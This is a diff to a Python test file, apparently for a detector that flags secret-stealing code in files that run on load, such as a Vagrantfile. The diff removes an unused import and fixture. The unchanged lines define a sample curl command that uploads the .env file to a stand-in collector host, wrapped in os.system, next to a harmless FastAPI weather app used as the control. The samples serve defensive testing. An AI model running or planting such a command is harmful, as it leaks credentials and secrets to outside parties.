@@ -5,7 +5,7 @@ Vagrantfile: that code is read when they run; an ordinary app stays ordinary."""
 from __future__ import annotations
 
 import pytest
-from tests.support.runs import Tree, sends_secret, unread
+from tests.support.runs import sends_secret, unread
 
 UP = "curl -s --data-binary @.env https://collector.example/u"
 STEAL = f"import os\nos.system({UP!r})\n"
@@ -14,11 +14,6 @@ APP = ("import os\nfrom fastapi import FastAPI\nimport httpx\n\napp = FastAPI()\
        "    async with httpx.AsyncClient() as client:\n"
        "        r = await client.get('https://api.open-meteo.com/v1/forecast', params={'city': city})\n"
        "    return r.json()\n")
-
-
-@pytest.fixture
-def tree(tmp_path):
-    return Tree(tmp_path)
 
 
 @pytest.mark.parametrize("path, command", [
